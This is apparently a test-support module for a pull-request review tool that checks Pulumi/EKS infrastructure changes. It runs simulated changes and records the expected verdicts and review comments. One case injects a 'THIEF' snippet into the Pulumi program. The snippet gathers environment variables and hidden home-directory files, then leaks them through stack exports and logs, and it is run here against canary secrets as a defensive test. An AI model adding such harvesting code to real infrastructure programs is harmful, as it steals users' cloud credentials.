"""Pull requests as people open them, what the review makes of each, and the comment that says so.

``python -m support.pull_requests --write``, with ``tests`` on the path, renews the comments in
``tests/engine/comments``. Read every change of them as the person who opened the pull request.
"""

import re
import sys
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from datetime import timedelta
from functools import cache
from pathlib import Path
from tempfile import TemporaryDirectory
from typing import Any

import pytest

from policies.waivers import today
from support.changes import Checkout, repository
from workbench.engine.render import TOOLS
from workbench.report import markdown, record
from workbench.report.model import Outcome, Report
from workbench.review.plans import Tools, baseline_state
from workbench.review.review import Review
from workbench.stacks import FOLDER_VARIABLE
from workbench.system.paths import PROJECT_ROOT
from workbench.toolchain import Toolchain, ensure

COMMENTS = PROJECT_ROOT / "tests" / "engine" / "comments"
CANARY = "canary-5d1f0c"
SECRETS = {
    "AWS_ACCESS_KEY_ID": f"AKIA{CANARY}",
    "AWS_SECRET_ACCESS_KEY": CANARY,
    "AZURE_CLIENT_SECRET": CANARY,
    "GITHUB_TOKEN": CANARY,
    "KUBECONFIG": f"/{CANARY}",
    "PULUMI_ACCESS_TOKEN": CANARY,
    "PULUMI_CONFIG_PASSPHRASE": CANARY,
}
THIEF = """
import json, os
from pathlib import Path
import pulumi
found = {**os.environ, **{str(file): file.read_text() for file in Path.home().glob(".*/*") if file.is_file()}}
pulumi.export("stolen", found)
pulumi.log.warn(json.dumps(found))
"""
NG_11 = "policies/rules/node_groups/ng_11_sizes_are_bounded.py"


def waiver(**changes: Any) -> dict[str, Any]:
    return {
        "rule": "NG-11",
        "stack": "prod",
        "resource": "aws:eks/nodeGroup:NodeGroup::prod-workload",
        "reason": "the yearly training run",
        "owner": "ml-platform",
        "ticket": "OPS-7",
        "expires": today() + timedelta(days=30),
        **changes,
    }


def raise_a_maximum(head: Checkout) -> None:
    head.choose("dev", pools__workload__size={"min": 1, "max": 20})


def exchange_instance_types(head: Checkout) -> None:
    head.choose("prod", pools__initial__instanceTypes=["m6i.2xlarge"])


def drop_the_taint_of_spot_nodes(head: Checkout) -> None:
    head.choose("dev", pools__spot__lifecycle="on-demand")


def drop_all_taints_in_code(head: Checkout) -> None:
    taints = "[NodeGroupTaintArgs(**taint_entry(taint)) for taint in group.taints]"
    head.replace("components/clusters/eks/node_groups.py", f"taints={taints}", "taints=[]")


def rename_the_cluster(head: Checkout) -> None:
    head.choose("prod", cluster__name="analysis")


def waive_what_it_breaks(head: Checkout) -> None:
    head.choose("prod", pools__workload__size={"min": 1, "max": 400})
    head.overrides(waivers=[waiver()])


def waive_until_yesterday(head: Checkout) -> None:
    head.choose("prod", pools__workload__size={"min": 1, "max": 400})
    head.overrides(waivers=[waiver(expires="2026-01-31")])


def break_the_stack_file(head: Checkout) -> None:
    head.choose("prod", pools__workload__size={"min": 9, "max": 3}, cluster__regoin="eu-west-1")


def write_documents(head: Checkout) -> None:
    head.write("docs/operations.md", "# How we do it\n")
    head.write("README.md", "# Clusters\n")


def steal(head: Checkout) -> None:
    program = head.root / "infra" / "__main__.py"
    program.write_text(program.read_text() + THIEF)


def weaken_the_rule_that_it_breaks(head: Checkout) -> None:
    head.replace(NG_11, "elif largest > most:", "elif largest > 10 * most:")
    head.choose("prod", pools__workload__size={"min": 1, "max": 400})


@dataclass(frozen=True)
class Case:
    """A change, the stacks that are reviewed if not all that it affects, and the verdict."""

    edit: Callable[[Checkout], None]
    outcome: Outcome
    wanted: tuple[str, ...] = ()


CASES: Mapping[str, Case] = {
    "a-pools-maximum-is-raised": Case(raise_a_maximum, Outcome.PASSED),
    "instance-types-change": Case(exchange_instance_types, Outcome.BLOCKED),
    "spot-becomes-on-demand": Case(drop_the_taint_of_spot_nodes, Outcome.PASSED),
    "code-drops-all-taints": Case(drop_all_taints_in_code, Outcome.BLOCKED, ("prod",)),
    "the-cluster-is-renamed": Case(rename_the_cluster, Outcome.BLOCKED),
    "a-waiver-comes-with-what-it-excuses": Case(waive_what_it_breaks, Outcome.REVIEW),
    "a-waiver-is-expired": Case(waive_until_yesterday, Outcome.BLOCKED),
    "a-stack-file-is-broken": Case(break_the_stack_file, Outcome.BLOCKED),
    "only-documents-change": Case(write_documents, Outcome.PASSED),
    "a-fork-looks-for-secrets": Case(steal, Outcome.REVIEW, ("dev",)),
    "a-rule-is-weakened-with-what-breaks-it": Case(weaken_the_rule_that_it_breaks, Outcome.BLOCKED, ("prod",)),
}


@dataclass(frozen=True)
class Reviewed:
    """A change after its review."""

    report: Report
    record: Path

    @property
    def comment(self) -> str:
        """The comment without what differs from run to run: commits, days, random ends of names."""
        text = markdown.render(self.report)
        for moving, stands in (
            (self.report.base, "BASE"),
            (self.report.head, "HEAD"),
            (str(waiver()["expires"]), "IN-30-DAYS"),
        ):
            text = text.replace(moving, stands)
        return re.sub(r"(?<=-)[0-9a-f]{7}\b", "RANDOM", text)


@dataclass(frozen=True, eq=False)
class Forge:
    """The base branch, and reviews of changes of it; the ``up`` of its stacks is simulated once for all of them."""

    folder: Path
    base: Checkout
    toolchain: Toolchain
    state: Callable[[str, Tools], str]

    @cache  # noqa: B019 one forge a run
    def reviewed(self, name: str) -> Reviewed:
        """Return the review of a case; where the user who runs it has secrets all around."""
        case, folder = CASES[name], self.folder / name
        head = self.base.branch(folder / "head")
        case.edit(head)
        head.commit()
        with pytest.MonkeyPatch.context() as patch:
            for variable, value in {**SECRETS, "HOME": str(self.folder / "home")}.items():
                patch.setenv(variable, value)
            patch.setenv(FOLDER_VARIABLE, str(self.base.root))
            Review(head.root, self.toolchain, onto=self.state).write(folder / "record", case.wanted)
        return Reviewed(record.read(folder / "record"), folder / "record")


def forge(folder: Path) -> Forge:
    """Make a forge in an empty folder."""
    (folder / "home" / ".aws").mkdir(parents=True)
    (folder / "home" / ".aws" / "credentials").write_text(CANARY)
    states: dict[str, str] = {}

    def state(name: str, tools: Tools) -> str:
        if name not in states:
            states[name] = baseline_state(name, tools)
        return states[name]

    return Forge(folder, repository(folder / "base"), ensure(TOOLS, hermetic=True), state)


def main() -> None:
    with TemporaryDirectory() as folder:
        made = forge(Path(folder))
        for name in CASES:
            (COMMENTS / f"{name}.md").write_text(made.reviewed(name).comment)


if __name__ == "__main__":
    if sys.argv[1:] != ["--write"]:
        sys.exit("usage: python -m support.pull_requests --write")
    main()
